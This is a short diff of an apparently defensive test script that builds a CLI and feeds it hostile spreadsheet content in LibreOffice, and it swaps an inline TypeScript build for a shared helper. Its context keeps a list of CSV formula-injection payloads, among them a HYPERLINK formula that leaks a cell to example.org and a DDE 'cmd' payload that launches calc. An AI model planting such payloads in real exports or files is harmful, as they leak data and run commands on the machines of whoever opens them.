@@ -42,9 +42,8 @@ function soffice() {
 const office = soffice();
 
 // 1. The CLI and the hostile documents.
-const out = path.join(root, 'build', 'csv-libreoffice');
-execFileSync(process.execPath, [path.join(root, 'node_modules', 'typescript', 'bin', 'tsc'), '-p', path.join(root, 'tsconfig.cli.json'), '--outDir', out, '--tsBuildInfoFile', path.join(out, '.tsbuildinfo')], { stdio: 'inherit', cwd: root });
-const cli = path.join(out, 'src', 'cli', 'main.js');
+require('./ts-build.js').ensureBuilt(root, 'cli', (message) => process.stderr.write(message));
+const cli = path.join(root, 'build', 'cli', 'src', 'cli', 'main.js');
 
 const payloads = ['=HYPERLINK("https://example.org/?leak="&A2,"Click")', '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
 const xml = (t) => t.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]);
